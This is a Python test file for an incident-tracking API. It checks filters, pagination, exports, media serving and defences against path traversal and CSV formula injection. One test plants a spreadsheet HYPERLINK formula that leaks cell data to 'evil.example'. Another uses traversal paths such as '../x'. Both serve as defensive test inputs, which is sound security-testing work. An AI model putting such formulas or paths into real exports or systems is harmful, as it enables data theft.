"""The incident list (every filter, both sorts, keyset pages), export and media files."""

from __future__ import annotations

import base64
import csv
import dataclasses
import io
from datetime import UTC, datetime
from typing import Any

import pytest
from api_kit import World, bearer
from fastapi.testclient import TestClient

from reports.types import Severity
from storage.repo_workflow import Action, Disposition
from tests.storage.storage_workload import make_report, make_update

pytestmark = pytest.mark.timeout(120)

T0 = 1_750_000_000.0


def _iso(ts: float) -> str:
    return datetime.fromtimestamp(ts, tz=UTC).isoformat()


@pytest.fixture
def four(world: World) -> dict[str, str]:
    """Four incidents that differ in every filtered field."""
    w = world
    a = w.record("A", camera_id="cam-a", event_type="fall", zone="dock", opened_ts_s=T0)
    b = w.record(
        "B", camera_id="cam-b", event_type="fire", severity=Severity.CRITICAL, opened_ts_s=T0 + 10
    )
    c = w.record(
        "C",
        camera_id="cam-a",
        event_type="fire",
        zone="yard",
        severity=Severity.LOW,
        opened_ts_s=T0 + 20,
    )
    d = w.record("D", camera_id="cam-b", event_type="fall", severity=None, opened_ts_s=T0 + 30)
    for inc, cam, ev, t in (("B", "cam-b", "fire", T0 + 10), ("D", "cam-b", "fall", T0 + 30)):
        u = make_update(inc, 2, camera_id=cam, event_type=ev, opened_ts_s=t, closed=True)
        assert w.store.record(u)
    w.ops.act(c, Action.ACKNOWLEDGE, actor="ann")
    w.ops.act(d, Action.RESOLVE, actor="ann", disposition=Disposition.NUISANCE)
    return {"A": a, "B": b, "C": c, "D": d}


FILTERS: list[tuple[dict[str, Any], list[str]]] = [
    ({}, ["D", "C", "B", "A"]),
    ({"camera": "cam-a"}, ["C", "A"]),
    ({"type": "fire"}, ["C", "B"]),
    ({"status": "closed"}, ["D", "B"]),
    ({"status": "open"}, ["C", "A"]),
    ({"workflow": "new"}, ["B", "A"]),
    ({"workflow": "acknowledged"}, ["C"]),
    ({"workflow": "resolved"}, ["D"]),
    ({"severity": "critical"}, ["B"]),
    ({"severity": "high"}, ["A"]),
    ({"zone": "yard"}, ["C"]),
    ({"since": _iso(T0 + 10)}, ["D", "C", "B"]),
    ({"until": _iso(T0 + 30)}, ["C", "B", "A"]),
    ({"since": _iso(T0 + 10), "until": _iso(T0 + 30), "camera": "cam-a"}, ["C"]),
    ({"type": "fall", "sort": "oldest"}, ["A", "D"]),
    ({"sort": "oldest"}, ["A", "B", "C", "D"]),
    ({"camera": "cam-z"}, []),
]


@pytest.mark.parametrize(("params", "want"), FILTERS)
def test_each_filter_in_list_and_both_exports(
    world: World, client: TestClient, four: dict[str, str], params: dict[str, Any], want: list[str]
) -> None:
    h = bearer(world.token("wall", "viewer"))
    r = client.get("/api/incidents", params=params, headers=h)
    assert r.status_code == 200, r.text
    assert [i["id"] for i in r.json()["items"]] == want
    assert r.json()["next_cursor"] is None
    j = client.get("/api/incidents/export", params={**params, "format": "json"}, headers=h)
    assert j.status_code == 200 and j.headers["content-type"].startswith("application/json")
    assert [i["id"] for i in j.json()] == want
    c = client.get("/api/incidents/export", params={**params, "format": "csv"}, headers=h)
    assert c.status_code == 200 and c.headers["content-type"].startswith("text/csv")
    assert "attachment" in c.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(c.text)))
    assert [row["id"] for row in rows] == want
    for row in rows:
        assert row["workflow_state"] == {"C": "acknowledged", "D": "resolved"}.get(row["id"], "new")


def test_bad_filter_values_are_422(world: World, client: TestClient) -> None:
    h = bearer(world.token("wall", "viewer"))
    for params in (
        {"workflow": "sleeping"},
        {"severity": "apocalyptic"},
        {"since": "yesterday"},
        {"sort": "random"},
        {"limit": 0},
        {"limit": 501},
        {"camera": "c" * 65},
    ):
        assert client.get("/api/incidents", params=params, headers=h).status_code == 422, params
    assert client.get("/api/incidents/export?format=xml", headers=h).status_code == 422


@pytest.mark.parametrize("sort", ["newest", "oldest"])
def test_cursor_pages_over_120_without_gaps_or_repeats(
    world: World, client: TestClient, sort: str
) -> None:
    for i in range(120):  # three incidents share each opened time: ties broken by id
        world.record(f"p-{i:03d}", camera_id=("cam-a", "cam-b")[i % 2], opened_ts_s=T0 + i // 3)
    h = bearer(world.token("wall", "viewer"))
    seen: list[str] = []
    cursor = None
    pages = 0
    while True:
        params: dict[str, Any] = {"sort": sort, "limit": 7}
        if cursor:
            params["cursor"] = cursor
        body = client.get("/api/incidents", params=params, headers=h).json()
        seen += [i["id"] for i in body["items"]]
        pages += 1
        cursor = body["next_cursor"]
        if cursor is None:
            break
    assert pages == 18
    order = sorted((T0 + i // 3, f"p-{i:03d}") for i in range(120))
    want = [inc for _, inc in order]
    assert seen == (want if sort == "oldest" else want[::-1])


def _b64(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


@pytest.mark.parametrize(
    "cursor",
    ["not a cursor", "!!!", _b64(b"[1]"), _b64(b"null"), _b64(b'["x","y"]'), _b64(b"\xff\xfe")],
)
def test_bad_cursor_is_422(world: World, client: TestClient, cursor: str) -> None:
    world.record()
    h = bearer(world.token("wall", "viewer"))
    r = client.get("/api/incidents", params={"cursor": cursor}, headers=h)
    assert r.status_code == 422, r.text


def test_media_range_request_and_escaping_paths(world: World, client: TestClient) -> None:
    inc = world.record()
    data = bytes(range(256)) * 8
    mid = world.add_media(inc, "clips/inc.mp4", data)
    h = bearer(world.token("wall", "viewer"))
    whole = client.get(f"/api/media/{mid}", headers=h)
    assert whole.status_code == 200 and whole.content == data
    assert whole.headers["content-type"] == "video/mp4"
    part = client.get(f"/api/media/{mid}", headers={**h, "Range": "bytes=100-199"})
    assert part.status_code == 206
    assert part.content == data[100:200]
    assert part.headers["content-range"] == f"bytes 100-199/{len(data)}"
    detail = client.get(f"/api/incidents/{inc}", headers=h).json()
    assert [m["url"] for m in detail["media"]] == [f"/api/media/{mid}"]
    outside = world.media_dir.parent / "x"
    outside.write_bytes(b"secret")
    for rel in ("../x", str(outside), "clips/../../x"):
        bad = world.add_media(inc, rel, None)
        assert client.get(f"/api/media/{bad}", headers=h).status_code == 404, rel
    missing = world.add_media(inc, "clips/gone.mp4", None)
    assert client.get(f"/api/media/{missing}", headers=h).status_code == 404
    assert client.get("/api/media/999999", headers=h).status_code == 404


def test_csv_export_neutralises_formula_cells(world: World, client: TestClient) -> None:
    """OWASP CSV injection: a cell a spreadsheet would run as a formula starts with ``'``."""
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    world.store.upsert_camera(camera_id="cam-a", name=evil, location=None, url_masked="rtsp://x/s")
    for i, title in enumerate((evil, "+SUM(1,2)", "-2+3", "@cmd", "\tTAB", "\rCR", "a=b")):
        inc = f"f-{i}"
        u = make_update(inc, 1, zone="=1+1" if i == 0 else None, opened_ts_s=T0 + i)
        report = dataclasses.replace(make_report(inc, 1), title=title)
        assert world.store.record(u, report=report)
    world.ops.act("f-0", Action.ASSIGN, actor="ann", owner="@owner")
    h = bearer(world.token("wall", "viewer"))
    body = client.get("/api/incidents/export", params={"format": "csv"}, headers=h).text
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(body, newline=""))}
    want = {"f-0": "'" + evil, "f-1": "'+SUM(1,2)", "f-2": "'-2+3", "f-3": "'@cmd"}
    want |= {"f-4": "'\tTAB", "f-5": "'\rCR", "f-6": "a=b"}
    assert {k: r["title"] for k, r in rows.items()} == want
    assert {r["camera_name"] for r in rows.values()} == {"'" + evil}
    assert rows["f-0"]["zone"] == "'=1+1" and rows["f-0"]["owner"] == "'@owner"
    assert rows["f-1"]["peak_score"] == "0.900" and rows["f-1"]["camera_id"] == "cam-a"
    j = client.get("/api/incidents/export", params={"format": "json"}, headers=h).json()
    assert {i["id"]: i["title"] for i in j}["f-0"] == evil  # JSON is data, left as stored
